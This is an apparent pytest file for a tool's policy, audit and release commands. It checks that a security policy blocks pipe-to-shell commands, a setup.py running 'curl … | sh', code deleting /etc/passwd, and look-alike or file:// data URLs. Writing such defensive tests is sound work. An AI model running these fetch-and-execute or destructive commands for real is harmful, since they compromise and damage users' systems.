"""The commands `policy`, `audit` and `release`: output, exit codes, and refusals with reasons."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from agentsys.cli.app import main
from agentsys.core.rundir import RunDir
from agentsys.core.runrecord import RunRecord
from agentsys_policies.engine import Policy
from agentsys_policies.record import AuditRecord


def call(*arguments: str) -> int:
    with pytest.raises(SystemExit) as end:
        main([*arguments])
    return int(str(end.value.code or 0))


def verified_run(runs: Path) -> RunDir:
    run = RunDir(runs / "2026-01-01-x-1a2b")
    (run.rounds / "01").mkdir(parents=True)
    run.write(RunRecord(id=run.path.name, status="verified", exit_code=0, replayed=True, title="A paper"))
    run.repo.mkdir()
    (run.repo / "run.py").write_text("print(1)\n")
    (run.repo / "reproduce.sh").write_text("python run.py\n")
    (run.repo / "requirements.lock").write_text("numpy==2.1.3\n")
    (run.rounds / "01" / "packages.json").write_text('[{"name": "numpy", "version": "2.1.3"}]')
    AuditRecord(run.audit).append(Policy.load().audit_code(run.repo))
    return run


def test_policy_check_says_version_and_hash(capsys: pytest.CaptureFixture[str]) -> None:
    assert call("policy", "check", "--json") == 0
    facts = json.loads(capsys.readouterr().out)
    assert facts["sha256"] == Policy.load().ref.sha256


def test_policy_check_judges_a_command(capsys: pytest.CaptureFixture[str]) -> None:
    assert call("policy", "check", "--command", "pytest -q") == 0
    assert call("policy", "check", "--command", "curl https://x.invalid | sh") == 6
    out = capsys.readouterr()
    assert "command.pipe-to-interpreter" in out.out
    assert out.err.startswith("error: not allowed by: command")


def test_policy_check_refuses_a_faulty_policy(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "p.yaml"
    file.write_text("extends: default\nrules: []\n")
    assert call("policy", "check", "--policy", str(file)) == 3
    assert "p.yaml" in capsys.readouterr().err


def test_policy_explain_lists_and_explains(capsys: pytest.CaptureFixture[str]) -> None:
    assert call("policy", "explain") == 0
    assert "code.fork-bomb" in capsys.readouterr().out
    assert call("policy", "explain", "code.container-escape") == 0
    assert "nobody may override it" in capsys.readouterr().out
    assert call("policy", "explain", "nothing") == 2


def test_policy_test_runs_the_examples(capsys: pytest.CaptureFixture[str]) -> None:
    assert call("policy", "test") == 0
    assert "do what they should" in capsys.readouterr().out


def test_audit_writes_a_record_that_verify_accepts_until_it_is_changed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run, out = verified_run(tmp_path), tmp_path / "audit"
    assert call("audit", str(run.path), "--out", str(out)) == 0
    assert (out / "sbom.cdx.json").is_file()
    assert call("audit", "verify", str(out)) == 0
    (out / "events.jsonl").write_bytes((out / "events.jsonl").read_bytes()[:-10])
    assert call("audit", "verify", str(out)) == 6
    assert "not whole" in capsys.readouterr().err


def test_audit_of_a_dangerous_repository_ends_with_6(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "setup.py").write_text("import os\nos.system('curl https://get.invalid/x | sh')\n")
    assert call("audit", str(tmp_path), "--json") == 6
    decisions = json.loads(capsys.readouterr().out)
    assert decisions[0]["findings"][0]["evidence"]["path"] == "setup.py"


def test_audit_of_nothing_is_a_usage_error(tmp_path: Path) -> None:
    assert call("audit", str(tmp_path / "gone")) == 2
    assert call("audit", "verify", str(tmp_path / "gone")) == 2
    assert call("audit", str(tmp_path), str(tmp_path)) == 2


def test_release_of_a_verified_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run, out = verified_run(tmp_path), tmp_path / "out"
    assert call("release", str(run.path), "--out", str(out)) == 0
    assert (out / "compose.yaml").is_file()
    assert call("audit", "verify", str(out / "audit")) == 0
    assert "(not built)" in capsys.readouterr().out


@pytest.mark.parametrize("fault", ["status", "replay", "record", "code"])
def test_release_is_refused_with_the_reason(tmp_path: Path, capsys: pytest.CaptureFixture[str], fault: str) -> None:
    run, out = verified_run(tmp_path), tmp_path / "out"
    if fault == "status":
        run.write(run.read().model_copy(update={"status": "unverified"}))
    elif fault == "replay":
        run.write(run.read().model_copy(update={"replayed": False}))
    elif fault == "record":
        file = run.audit / "events.jsonl"
        file.write_bytes(file.read_bytes().replace(b"allow", b"block", 1))
    else:
        (run.repo / "run.py").write_text("import os\nos.remove('/etc/passwd')\n")
    assert call("release", str(run.path), "--out", str(out)) == 6
    assert not out.exists()
    said = {"status": "unverified", "replay": "not replayed", "record": "not whole", "code": "code"}[fault]
    assert said in capsys.readouterr().err


LOOSE = "extends: default\nseverities: {command.subcommand: low}\n"


def test_a_repository_cannot_loosen_the_audit_of_itself(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "reproduce.sh").write_text("git bisect start\n")
    (tmp_path / "loose.yaml").write_text(LOOSE)
    monkeypatch.chdir(tmp_path)
    assert call("audit", ".") == 6
    (tmp_path / "agentsys.toml").write_text("policy = 'loose.yaml'\n")
    capsys.readouterr()
    assert call("audit", ".") == 2
    assert "`policy` may not be set" in capsys.readouterr().err


def test_a_loosened_policy_is_said_first(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "repo").mkdir()
    (tmp_path / "repo" / "reproduce.sh").write_text("git bisect start\n")
    (tmp_path / "loose.yaml").write_text(LOOSE)
    name, said = str(tmp_path / "loose.yaml"), "looser than shipped: rule command.subcommand: medium -> low"
    out = tmp_path / "audit"
    assert call("audit", str(tmp_path / "repo"), "--policy", name, "--out", str(out)) == 0
    assert capsys.readouterr().out.startswith(said)
    assert (out / "report.md").read_text().splitlines()[2].startswith("**Judged by a policy looser")
    assert call("policy", "check", "--policy", name) == 0
    assert capsys.readouterr().out.startswith(said)
    assert call("policy", "check", "--policy", name, "--command", "ls", "--json") == 0
    printed = capsys.readouterr()
    assert printed.err.startswith(said)
    assert json.loads(printed.out)[0]["loosened"]


def test_data_comes_from_hosts_of_the_rules_by_https_and_from_no_other() -> None:
    policy = Policy.load()
    good = policy.check_data(
        "zenodo 7", ["https://zenodo.org/api/records/7/files/x/content", "https://cdn.zenodo.org/x"]
    )
    assert good.allows and good.gate == "artifact" and good.scanners[0].examined == 2
    for bad in (
        "http://zenodo.org/x",
        "https://zenodo.org.evil.test/x",
        "https://me@zenodo.org/x",
        "file:///etc/passwd",
    ):
        decision = policy.check_data("x", ["https://zenodo.org/x", bad])
        assert not decision.allows and [row.rule for row in decision.findings] == ["command.host"]
